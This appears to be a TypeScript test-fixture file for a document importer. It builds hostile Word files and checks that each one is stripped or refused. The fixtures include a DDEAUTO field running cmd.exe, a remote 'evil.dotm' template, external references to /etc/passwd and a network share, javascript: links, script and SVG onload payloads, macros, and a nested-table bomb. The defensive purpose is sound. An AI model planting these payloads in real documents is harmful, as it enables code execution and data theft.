import { type DocxMore, docxBytes, docxParagraph, docxPart } from '../docx-bytes';
import { textEntry, type ZipEntry, zipBytes } from '../zip-bytes';
import type { FileCase, Read, Refused, Surroundings } from './hostile-case';

/** D5 to D12: what stands in a document of an office program. Its archive and its XML are in `packages.ts`. */

const words = docxParagraph('Only words.');

type Made = DocxMore & { readonly body?: string; readonly name?: string };

function document(
  id: FileCase['id'],
  what: string,
  made: Made | ((at: Surroundings) => Made),
  outcome: Read | Refused,
  name = `${id} ${what}.docx`,
): FileCase {
  const bytes: FileCase['bytes'] = (at) => {
    const { body = words, ...more } = typeof made === 'function' ? made(at) : made;
    return docxBytes(body, more);
  };
  return { id, what, name, bytes, outcome };
}

const link = (id: string, text: string): string => `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`;
const field = (code: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const ole = Buffer.from('D0CF11E0A1B11AE1', 'hex');

const changed = `<w:p><w:r><w:t xml:space="preserve">The </w:t></w:r><w:del w:id="1"><w:r><w:delText>old </w:delText></w:r></w:del><w:ins w:id="2"><w:r><w:t xml:space="preserve">new word</w:t></w:r></w:ins><w:r><w:rPr><w:vanish/></w:rPr><w:t> unseen</w:t></w:r></w:p>`;

export const documents: readonly FileCase[] = [
  document(
    'D5',
    'pictures of the disk, a device and a share',
    ({ bait, host }) => ({
      relations: [
        ['image', 'file:///etc/passwd', 'external'],
        ['image', `file://${bait}`, 'external'],
        ['image', '/dev/zero', 'external'],
        ['image', '\\\\server\\share\\x.png', 'external'],
        ['image', `http://${host}/x.png`, 'external'],
      ],
    }),
    { words: ['Only words.'], dropped: [['remote-image', 5]] },
  ),
  document(
    'D6',
    'a link that runs something',
    { body: link('rId0', 'Words of a link'), relations: [['hyperlink', 'javascript:ran()', 'external']] },
    { words: ['Words of a link'], nowhere: ['ran()'], dropped: [['link-target', 1]] },
  ),
  document(
    'D7',
    '5,000 tables in each other',
    { body: `${'<w:tbl><w:tr><w:tc>'.repeat(5000)}${words}${'</w:tc></w:tr></w:tbl>'.repeat(5000)}` },
    { refused: 'import.too-large' },
  ),
  document(
    'D8',
    'macros, objects, controls, a template and fields',
    ({ host }) => ({
      body: `${words}${field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')}`,
      entries: [{ name: 'word/vbaProject.bin', bytes: ole }],
      relations: [
        ['vbaProject', 'vbaProject.bin'],
        ['oleObject', 'embeddings/oleObject1.bin'],
        ['control', 'activeX/activeX1.xml'],
        ['attachedTemplate', `http://${host}/evil.dotm`, 'external'],
      ],
    }),
    {
      words: ['Only words.', 'result'],
      nowhere: ['DDEAUTO'],
      dropped: [
        ['field', 1],
        ['macro', 1],
        ['embedded-object', 2],
        ['link-target', 1],
      ],
    },
    'macros.docm',
  ),
  {
    id: 'D9',
    what: 'an old document',
    name: 'old.doc',
    bytes: () => Buffer.concat([ole, Buffer.alloc(4096)]),
    outcome: { refused: 'import.unsupported' },
  },
  {
    id: 'D9',
    what: 'a document of Pages',
    name: 'new.pages',
    bytes: () => zipBytes([textEntry('Index/Document.iwa', 'x'), textEntry('preview.jpg', 'x')]),
    outcome: { refused: 'import.unsupported' },
  },
  {
    id: 'D10',
    what: 'a document under a password',
    name: 'locked.docx',
    bytes: () => Buffer.concat([ole, Buffer.alloc(512), Buffer.from('EncryptedPackage', 'utf16le')]),
    outcome: { refused: 'import.encrypted' },
  },
  document(
    'D11',
    'changes, comments, hidden words, a head and notes',
    {
      body: `${changed}<w:p><w:r><w:t>One</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`,
      parts: {
        'word/comments.xml': ['w:comments', `<w:comment w:id="0">${docxParagraph('Who says so?')}</w:comment>`],
        'word/header1.xml': ['w:hdr', docxParagraph('Secretariat')],
        'word/footnotes.xml': ['w:footnotes', `<w:footnote w:id="1">${docxParagraph('A note.')}</w:footnote>`],
      },
    },
    {
      words: ['The new word', 'One[1]', 'A note.'],
      cut: ['unseen', 'Who says so?', 'Secretariat'],
      nowhere: ['old'],
      dropped: [
        ['tracked-change', 1],
        ['header-footer', 1],
        ['comment', 1],
      ],
      warnings: ['tracked-changes', 'hidden-text'],
    },
  ),
  document(
    'D12',
    'pages, other documents and drawings in it',
    {
      body: `<w:altChunk r:id="rId0"/>${words}`,
      entries: [
        textEntry('word/afchunk.htm', '<script>ran()</script>'),
        textEntry('word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>'),
        { name: 'word/media/image2.emf', bytes: Buffer.alloc(32 * 1024 * 1024, ' ') } satisfies ZipEntry,
      ],
      relations: [
        ['aFChunk', 'afchunk.htm'],
        ['image', 'media/image1.svg'],
        ['image', 'media/image2.emf'],
      ],
    },
    {
      words: ['Only words.'],
      nowhere: ['ran()'],
      dropped: [
        ['embedded-object', 1],
        ['image', 2],
      ],
    },
  ),
];

/** The part of a document that its words stand in. */
export const mainPart = docxPart('w:document', `<w:body>${words}</w:body>`);
